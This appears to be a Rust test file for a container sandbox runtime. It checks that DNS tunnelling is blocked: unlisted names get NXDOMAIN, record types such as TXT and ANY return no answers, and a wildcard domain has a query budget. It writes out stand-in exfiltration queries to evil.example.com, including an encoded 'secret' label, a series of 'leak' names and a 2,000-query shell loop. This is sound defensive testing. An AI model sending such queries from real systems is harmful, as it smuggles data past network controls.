//! DNS as a tunnel: unlisted names, long random labels, TXT and other types, any server's address.

use crate::support::target;
use nemoclaw_tests::container::Container;
use nemoclaw_tests::packets::Watch;
use nemoclaw_tests::{World, nemoclaw, upstream, world};

fn ask(container: &Container<'_>, name: &str, kind: &str, server: &str) -> serde_json::Value {
    let (name, kind, server) = (
        format!("name={name}"),
        format!("type={kind}"),
        format!("server={server}"),
    );
    let output = container
        .exec(&["/usr/bin/nemoclaw-probe", "dns", &name, &kind, &server])
        .ok();
    serde_json::from_str(&output.stdout).unwrap_or_else(|error| panic!("{error}: {output:?}"))
}

fn sleeper<'w>(world: &'w World, runtime: &str) -> Container<'w> {
    Container::start(world, runtime, &[], &["nct/busybox", "sleep", "300"])
}

#[test]
fn without_the_box_a_query_reaches_any_server() {
    let world = world!();
    let answer = ask(
        &sleeper(world, "runc"),
        "secret-baseline.resolved.example.com",
        "TXT",
        &target(),
    );
    assert_eq!(answer["dns"], "answered", "{answer}");
    assert!(!upstream::requests(world, "secret-baseline").is_empty());
}

#[test]
fn listed_names_get_a_virtual_address_and_all_else_nxdomain() {
    let world = nemoclaw!();
    for runtime in ["nemoclaw-test", "nemoclaw-tproxy"] {
        let container = sleeper(world, runtime);
        for server in ["198.18.0.53", "8.8.8.8", "127.0.0.11"] {
            let listed = ask(&container, "api.example.com", "A", server);
            assert_eq!(listed["rcode"], 0, "{runtime} by {server}: {listed}");
            let address = listed["address"].as_str().unwrap_or_default();
            assert!(
                address.starts_with("198.18.") || address.starts_with("198.19."),
                "{runtime} by {server}: {listed}"
            );
            let unlisted = ask(&container, "unlisted.example.com", "A", server);
            assert_eq!(unlisted["rcode"], 3, "{runtime} by {server}: {unlisted}");
        }
    }
}

#[test]
fn txt_and_tunnel_names_leave_nothing_outside() {
    let world = nemoclaw!();
    let container = sleeper(world, "nemoclaw-test");
    let target = target();
    let watch = Watch::start();
    for kind in ["TXT", "NULL", "MX", "SRV", "HTTPS", "ANY"] {
        let listed = ask(&container, "api.example.com", kind, &target);
        assert_eq!(listed["answers"], 0, "{kind}: {listed}");
        let tunnel = ask(
            &container,
            "c2vjcmv0.mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dz.evil.example.com",
            kind,
            &target,
        );
        assert_ne!(tunnel["answers"], 1, "{kind}: {tunnel}");
    }
    for number in 0..40 {
        let name = format!("leak{number}-0123456789abcdef0123456789abcdef.evil.example.com");
        let answer = ask(&container, &name, "A", &target);
        assert_eq!(answer["rcode"], 3, "{answer}");
    }
    let seen = watch.finish();
    nemoclaw_tests::packets::Seen::none(&seen.from_box(&container.mac()), "DNS queries");
    nemoclaw_tests::packets::Seen::none(&seen.to(&target), "DNS queries");
    assert!(
        upstream::requests(world, "leak1-").is_empty()
            && upstream::requests(world, "c2vjcmv0").is_empty()
    );
}

#[test]
fn names_under_a_wildcard_have_a_budget() {
    let world = nemoclaw!();
    let container = sleeper(world, "nemoclaw-test");
    // 2,000 names in one process: a tunnel's data rate, not a person's.
    let script = "for i in $(seq 2000); do nemoclaw-probe dns name=x$i.wild.example.com | grep -q '\"rcode\":0' || { echo refused at $i; exit 0; }; done; echo never refused";
    let output = container.exec(&["sh", "-c", script]).ok();
    assert!(output.stdout.contains("refused at"), "{output:?}");
    assert!(!output.stdout.contains("refused at 1\n"), "{output:?}");
    assert!(upstream::requests(world, "x100.wild").is_empty());
}
